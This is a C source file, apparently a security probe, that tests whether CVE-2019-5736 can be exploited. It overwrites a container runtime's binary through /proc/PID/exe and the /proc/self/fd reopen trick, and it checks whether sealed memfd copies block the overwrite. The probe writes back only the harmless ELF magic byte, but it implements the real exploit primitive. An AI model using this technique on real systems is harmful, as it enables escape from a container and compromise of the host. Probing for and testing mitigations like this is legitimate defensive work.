/* CVE-2019-5736: a program that an engine runs inside is overwritten through /proc/PID/exe, so that the host's copy of
 * it, or the next container's, is the attacker's. */
#include "probe.h"

/* The first byte again: a program begins with 0x7f. */
static int overwrite(int file) { return pwrite(file, "\177", 1, 0) < 0 ? errno : 0; }

/* A running program may not be opened to be written, so a descriptor is kept until it ends. */
static int reopen(int file) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    int again = open(path, O_RDWR | O_CLOEXEC);
    return again < 0 ? errno : overwrite(again);
}

int try_program(const char *pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int file = open(path, O_RDWR | O_CLOEXEC);
    if (file >= 0) return overwrite(file);
    file = open(path, O_RDONLY | O_CLOEXEC);
    return file < 0 ? errno : reopen(file);
}

/* The same on a program in memory that this one has started, and that has ended. */
static int on_memory(int seals) {
    char path[64];
    int own = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), memory = memfd_create("program", MFD_ALLOW_SEALING);
    struct stat state;
    if (own < 0 || memory < 0 || fstat(own, &state)) return errno;
    void *bytes = mmap(0, state.st_size, PROT_READ, MAP_PRIVATE, own, 0);
    if (bytes == MAP_FAILED || write(memory, bytes, state.st_size) != state.st_size) return errno;
    if (seals && fcntl(memory, F_ADD_SEALS, seals)) return errno;
    snprintf(path, sizeof path, "/proc/self/fd/%d", memory);
    /* A program that is open to be written cannot be run. */
    int program = open(path, O_RDONLY);
    close(memory);
    int ends[2];
    if (program < 0 || pipe(ends)) return errno;
    pid_t child = fork();
    if (child == 0) {
        char *arguments[] = {"probe", "wait", 0}, *none[] = {0};
        dup2(ends[1], 1);
        fexecve(program, arguments, none);
        _exit(1);
    }
    close(ends[1]);
    char byte;
    int told = read(ends[0], &byte, 1) == 1;
    snprintf(path, sizeof path, "/proc/%d/exe", child);
    int file = open(path, O_RDONLY | O_CLOEXEC);
    kill(child, SIGKILL);
    waitpid(child, 0, 0);
    return !told || file < 0 ? EIO : reopen(file);
}

int try_sealed(const char *argument) {
    (void)argument;
    return on_memory(F_SEAL_WRITE | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL);
}

int try_unsealed(const char *argument) {
    (void)argument;
    return on_memory(0);
}
